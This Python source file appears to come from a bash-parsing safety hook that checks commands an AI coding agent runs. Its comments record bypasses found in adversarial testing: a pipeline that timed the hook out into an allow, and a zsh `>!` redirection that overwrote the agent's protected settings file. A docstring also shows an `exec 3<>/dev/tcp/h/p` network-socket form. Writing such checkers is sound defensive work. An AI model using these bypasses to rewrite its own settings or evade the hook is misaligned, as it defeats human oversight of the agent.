    # A progress callback only works with a read callback (tree-sitter ignores it for bytes).
    try:
        tree = parser().parse(lambda off, _pt: data[off : off + _CHUNK], progress_callback=lambda *_: perf_counter() > deadline)
    except ValueError:  # "Parsing failed": the callback cancelled it
        if perf_counter() <= deadline:
            raise
        tree = None
    if tree is None:
        parser().reset()  # a cancelled parse would otherwise resume on the next call
        raise ParseTimeout
    if tree.root_node.descendant_count > MAX_NODES:
        # Refused anyway (parse() below): not parsed a second time for its text (100 KB of `}`: ~100 ms each).
        raise _too_many_nodes(tree.root_node.descendant_count)
    if tree.root_node.has_error:
        # Asked about anyway (only the first error's text is read): parsing again would not reuse
        # the tree's ERROR nodes and would cost as much as the first parse (100 KB of `[`: ~100 ms).
        return tree
    # Nodes of a tree read through a callback fetch their text through it (slow): the same tree
    # again from the bytes, reusing the first one, gives text straight from memory.
    return parser().parse(data, old_tree=tree)


def _set_option(cmd: SimpleCommand, letter: str, name: str, now: bool) -> bool:
    """Whether the shell option *letter* / `-o NAME` is on after this `set`: `-P`, `-eP`, `-o physical`, `-eo physical`
    turn it on, the same with `+` off (cd's -P; allexport's -a)."""
    vals = cmd.values()
    for i, v in enumerate(vals):
        if v == "--":
            break
        if len(v) < 2 or v[0] not in "-+" or not v[1:].isalpha():
            continue
        if letter in v[1:] or ("o" in v[1:] and i + 1 < len(vals) and vals[i + 1] == name):
            now = v[0] == "-"
    return now


def parse(
    source: str,
    cwd: str | None,
    home: str,
    env: dict[str, str] | None = None,
    level: int = 0,
    vars: dict[str, str] | None = None,
    mark_inert: bool = False,
    max_commands: int = MAX_COMMANDS,
    dirs: list[str | None] | None = None,
) -> Script:
    """Parse *source* and return every simple command in it (not yet unwrapped).  With *mark_inert* (the tool call's
    own line), commands that cannot run as written carry NOT_RUN in their `via`. *dirs*: pushd's stack as an earlier
    call of a persisting shell left it (None in it: a folder not known).

    Raises ParseFailure when the text is not valid bash or is too large or
    deep to analyse; callers turn that into *ask*.

    A plain command line (shell/plain.py: words and ``&&``, ``||``, ``|``, ``;``) is walked in the tree
    plain.py builds, the same tree tree-sitter builds, without loading tree-sitter; whatever goes wrong
    with it, the line is parsed again by tree-sitter, whose reading decides.
    """
    if len(source) <= MAX_PLAIN and source.isascii():
        fast = plain_tree(source.encode("ascii"))
        if fast is not None:
            try:
                return _parse(source, cwd, home, env, level, vars, fast, mark_inert, max_commands, dirs)
            except Exception:  # the fast path never decides a failure: tree-sitter's tree does
                pass
    return _parse(source, cwd, home, env, level, vars, None, mark_inert, max_commands, dirs)


def _parse(
    source: str,
    cwd: str | None,
    home: str,
    env: dict[str, str] | None,
    level: int,
    vars: dict[str, str] | None,
    fast: Any,
    mark_inert: bool = False,
    max_commands: int = MAX_COMMANDS,
    dirs: list[str | None] | None = None,
) -> Script:
    if len(source) > MAX_SOURCE:
        raise TooLarge(f"the command is {len(source)} characters long, more than the {MAX_SOURCE} clearance analyses")
    if "\x00" in source:
        raise ParseFailure("the command contains a NUL byte")
    if source.count("|") > MAX_PIPES:
        # tree-sitter's error recovery in a long pipeline is quadratic and cannot be interrupted
        # (8 000 characters of `a|`: 3 s; 100 000: minutes, so the hook timed out into an allow).
        raise TooLarge(f"the command has more than {MAX_PIPES} `|`, more than clearance analyses")
    if len(source) > PRECHECK_MIN:
        # tree-sitter's error recovery is super-linear on long malformed text (100 KB of `)`: a
        # minute): bash's own reading, in one pass, rejects it first (shell/precheck.py).
        from .precheck import MAX_STEPS, TooManySteps, syntax_error

        try:
            problem = syntax_error(source, MAX_NODES)
        except TooManySteps:
            raise TooLarge(
                f"the command has more than {MAX_STEPS} quotes, substitutions and operators or {MAX_NODES} words and brackets, more than clearance analyses"
            ) from None
        if problem:
            raise ParseFailure(f"the command is not valid bash: {problem}")
    data = source.encode("utf-8", "surrogatepass")
    tree = fast if fast is not None else _parse_bytes(data)
    if b"\\\n" in data or b"\\ " in data or b"\\\t" in data or (b"$'" in data and b"\\\\" in data):
        # Blanks and continuations only on a clean tree: the node ranges that say where bash keeps
        # text as is (quotes, comments) mean nothing in a tree with errors, which is asked about anyway.
        # Bash removes backslash-newline before it splits words (`r\<newline>m` is `rm`),
        # and `\<space>` between words is a word holding a space; tree-sitter reads both
        # as blanks. Rewrite them as bash reads them, then parse again.
        for _ in range(64):
            joined = _join_continuations(data, tree.root_node, not tree.root_node.has_error)
            if joined == data:
                break
            data = joined
            tree = _parse_bytes(data)
        else:
            raise TooLarge("the command has too many escapes to analyse")
    if tree.root_node.has_error and b"${" in data:
        for _ in range(8):
            fixed = _brace_offsets(data, tree.root_node)
            if fixed == data:
                break
            data = fixed
            tree = _parse_bytes(data)
    if tree.root_node.has_error and b"{" in data:
        for _ in range(8):
            fixed = _brace_command_words(data, tree.root_node)
            if fixed == data:
                break
            data = fixed
            tree = _parse_bytes(data)
    read_write: frozenset[int] = frozenset()
    if tree.root_node.has_error and b"<>" in data:
        fixed, read_write = _read_write_redirects(data)
        if read_write:
            data = fixed
            tree = _parse_bytes(data)
    if b"0<" in data:
        fixed = _fd0_input_redirects(data, _heredoc_bodies(tree.root_node) if b"<<" in data else ())
        if fixed != data:
            again = _parse_bytes(fixed)
            if not again.root_node.has_error or tree.root_node.has_error:
                data, tree = fixed, again  # (`(( 0<n ))` is arithmetic, not a redirection: kept where it parsed)
    if b">!" in data:
        fixed = _zsh_clobber(data, _heredoc_bodies(tree.root_node) if b"<<" in data else ())
        if fixed != data:
            again = _parse_bytes(fixed)
            if not again.root_node.has_error or tree.root_node.has_error:
                data, tree = fixed, again
    for _ in range(_RUNAWAY_RETRIES):
        root = tree.root_node
        if root.descendant_count > MAX_NODES:
            raise _too_many_nodes(root.descendant_count)
        if root.has_error:
            bad = _first_error(root)
            where = ""
            if bad is not None:
                col = bad.start_point[1] + 1
                row = bad.start_point[0] + 1
                snippet = _text(bad)[:30] if bad.type == "ERROR" else "missing " + bad.type
                where = f" at line {row}, column {col} ({snippet!r})"
            raise ParseFailure("the command is not valid bash" + where)
        if b"<<" in data:
            _here_documents_as_bash(data, root)
        script = Script()
        st = _State(cwd, home, script, level, env or {})
        st.max_commands = max_commands
        st.dirs = list(dirs or ())
        st.source = data
        st.read_write = read_write
        if vars:
            st.vars.update(vars)
        try:
            walker = _Walker(st)
            walker.mark_inert = mark_inert
            walker.walk(root, 0, None)
            walker.finish()
            _bind_traps(st)
            script.kept = {k: v for k, v in st.vars.items() if v != st.env.get(k)}
            script.defined = {k: _text(body) for k, (body, _) in list(walker.functions.items())[:16]}
            script.exported = st.exported
            script.cwd, script.dirs = st.cwd, st.dirs
        except RecursionError:
            raise TooLarge("the command is nested too deeply to analyse") from None
        except ParseFailure as e:
            from ..errors import RunawayLine

            if not isinstance(e, RunawayLine):
                raise
            # Say where the command ends (`;` before the newline, what bash reads there) and read it again.
            data = data[: e.at] + b";" + data[e.at :]
            read_write = frozenset(k + 1 if k >= e.at else k for k in read_write)
            tree = _parse_bytes(data)
            continue
        fn = b"(" in data or b"function" in data
        if (b"&" in data and (fn or b"while" in data or b"until" in data or b"for" in data)) or (b"|" in data and (fn or b"xargs" in data)):
            from .spawn import unbounded_spawn

            why = unbounded_spawn(root)
            if why is not None:
                script.problems.append(("sys.unbounded-spawn", why))
        if (b"while" in data or b"until" in data or b"for" in data) and (b">" in data or b"tee" in data or b"temp" in data):
            from .spawn import endless_write

            grows = endless_write(root)
            if grows is not None:
                script.problems.append(("sys.endless-write", grows))
        return script
    raise ParseFailure("clearance cannot read the command the way bash does (commands run on past the end of their lines)")


def _here_documents_as_bash(data: bytes, root: Any) -> None:
    """Raises ParseFailure unless tree-sitter reads each here-document's body from the line bash reads it from
    to the same delimiter line.  bash reads the pending bodies at the next newline token of the parser that read
    the `<<`: after a word that holds a newline (quotes, backticks, `${ }`), after the `)` of a `$( )`, but at
    the first newline inside `( )` `{ }` `[[ ]]` or a case (shell/precheck.py, _own_parser); tree-sitter's
    scanner reads them elsewhere on some of these, which would take commands for a body (hidden from the
    judgement) or a body for commands.  Where the pre-check cannot follow bash and a body was pending across
    such a newline, the command is asked about too."""
    from .precheck import here_documents

    spans, crossed = here_documents(data.decode("utf-8", "surrogateescape"))
    if spans is None:
        if crossed:
            raise ParseFailure("clearance cannot tell where bash reads a here-document that is pending across a newline inside a word or a nested command")
        return
    seen: list[tuple[int, int]] = []
    at = data.find(b"<<")
    while at >= 0:  # every here-document of tree-sitter's starts with its `<<` or `<<-` token
        token = root.descendant_for_byte_range(at, at + 2)
        node = token.parent if token is not None and token.type in ("<<", "<<-") else None
        at = data.find(b"<<", at + 2)
        if node is None or node.type != "heredoc_redirect":
            continue
        kids = node.children
        start = next((c for c in kids if c.type == "heredoc_start"), None)
        end = next((c for c in kids if c.type == "heredoc_end"), None)
        if start is not None and end is not None:
            # the body, and what tree-sitter glued onto the `<<` line from the lines below it (a first line
            # that starts with a backslash: Walker.redirect reads the body from the source then)
            rows = [
                c.start_point[0]
                for c in kids
                if c.type == "heredoc_body" or (c.is_named and c.type not in ("heredoc_start", "heredoc_end") and c.start_point[0] > start.start_point[0])
            ]
            seen.append((min(rows, default=end.start_point[0]), end.start_point[0]))
    lines = data.split(b"\n")

    def from_text(first: int, end: int) -> tuple[int, int]:
        # tree-sitter starts a body at its first line that holds more than blanks
        while first < end and not lines[first].strip():
            first += 1
        return first, end

    if sorted(from_text(*r) for r in seen) != [from_text(*r) for r in spans]:
        raise ParseFailure("tree-sitter does not read the here-documents where bash reads them (a body taken for commands, or commands for a body)")


def _shell_bytes(data: bytes) -> Iterator[int]:
    """The offsets of *data*'s bytes the shell reads as its own syntax: outside quotes, comments and backslash escapes
    (a `#` starts a comment at a word's start). Shared by the byte-level rewrites below."""
    quote = 0
    i, n = 0, len(data)
    while i < n:
        b = data[i]
        if quote:
            if b == quote:
                quote = 0
            elif b == 0x5C and quote == 0x22:
                i += 1
            i += 1
            continue
        if b == 0x5C:
            i += 2
            continue
        if b in (0x27, 0x22):
            quote = b
        elif b == 0x23 and (i == 0 or data[i - 1] in b" \t\n;&|("):
            while i < n and data[i] != 0x0A:
                i += 1
            continue
        else:
            yield i
        i += 1


def _read_write_redirects(data: bytes) -> tuple[bytes, frozenset[int]]:
    """*data* with each `<>` redirection operator (`exec 3<>/dev/tcp/h/p`, `sh -i 5<> FILE`: open for reading and
    writing) written `< `, the same length, and the offsets of those operators: tree-sitter-bash has no `<>` and
    fails the whole line, and the walker reads an operator at one of these offsets back as `<>`.  An operator is
    one outside quotes and comments, after a blank, an operator character or a descriptor number, not before `(`."""
    out = bytearray(data)
    spots: set[int] = set()
    for i in _shell_bytes(data):
        if data[i] == 0x3C and data[i + 1 : i + 2] == b">" and data[i + 2 : i + 3] not in (b"(", b">"):
            j = i
            while j > 0 and data[j - 1 : j].isdigit():
                j -= 1
            if j == 0 or data[j - 1] in b" \t\n;&|()":
                out[i + 1] = 0x20
                spots.add(i)
    return bytes(out), frozenset(spots)


def _zsh_clobber(data: bytes, skip: list[tuple[int, int]] | tuple[()] = ()) -> bytes:
    """*data* with zsh's clobbering redirections `>!`, `>>!` and `&>!` written as bash's `>|`, `>> ` and `&> ` (the same
    length): where the agent's shell is zsh (macOS' default, which Claude Code runs commands in) `echo '{}' >!
    ~/.claude/settings.json` writes the settings, where bash reads a file named `!` and an argument (adversarial round
    15e: allowed). The zsh reading is the one that reaches a protected file; bash's writes a file `!` beside it."""
    out = bytearray(data)
    for i in _shell_bytes(data):
        if data[i] == 0x3E and data[i + 1 : i + 2] == b"!" and not any(a <= i < b for a, b in skip):
            nxt = data[i + 2 : i + 3]
            if nxt in (b"=", b"("):
                continue
            if i > 0 and data[i - 1] in (0x3E, 0x26):
                out[i + 1] = 0x20  # `>>!`, `&>!`: append or redirect both, clobbering or not (tree-sitter has no `&>|`)
            else:
                out[i + 1] = 0x7C  # `>!`, `&>!`, `2>!`: `>|`
    return bytes(out)


def _heredoc_bodies(root: Any) -> list[tuple[int, int]]:
    """The byte spans of the here-documents' bodies: text a program reads, not the shell's words."""
    out: list[tuple[int, int]] = []
    todo = [root]
    seen = 0
    while todo and seen < MAX_NODES:
        node = todo.pop()
        seen += 1
        if node.type == "heredoc_body":
            out.append((node.start_byte, node.end_byte))
            continue
        todo.extend(node.children)
    return out


def _fd0_input_redirects(data: bytes, skip: list[tuple[int, int]] | tuple[()] = ()) -> bytes:
    """*data* with the descriptor number of each `0<` redirection (`bash 0< x.sh`, `0<&3`, `0<<EOF`) written as
    blanks, the same length: standard input is every `<` operator's default, so `<` means the same, and tree-sitter-bash
    reads a `0` before `<` as a word of its own -- an argument (`bash 0`, a script named 0) where bash opens the file
    as the command's input. A number is one outside quotes, comments and here-documents' bodies (*skip*) that starts a
    word, of zeros only."""
    out = bytearray(data)
    n = len(data)
    for i in _shell_bytes(data):
        if data[i] == 0x30 and (i == 0 or data[i - 1] in b" \t\n;&|") and not any(a <= i < z for a, z in skip):
            j = i
            while j < n and data[j] == 0x30:
                j += 1
            if data[j : j + 1] == b"<" and data[j + 1 : j + 2] != b"(":
                out[i:j] = b" " * (j - i)
    return bytes(out)


def _bind_traps(st: _State) -> None:
    """A trap's handler runs later in this shell, with the variables as they are then: at the end of the line for
    EXIT, anywhere after the trap for a signal. A variable is bound for the handler (`t=$(mktemp -d); trap 'rm -rf
    "$t"' EXIT`) when its value is known and the same when the trap is set and at the end, and nothing else set it
    in a way clearance does not follow (`read`, a loop, `printf -v`; anything after `source` or `eval`)."""
    opaque = st.opaque
    for cmd, seen in st.traps:
        if opaque is None:
            return
        cmd.bound = {k: v for k, v in seen.items() if DYN not in v and st.vars.get(k) == v and k not in opaque} or None


def join_cwd(cwd: str | None, sub: str, home: str) -> str | None:
    if cwd is None or DYN in sub:
        return None
    return resolve(sub, cwd, home) if sub else pathstr.normpath(cwd)
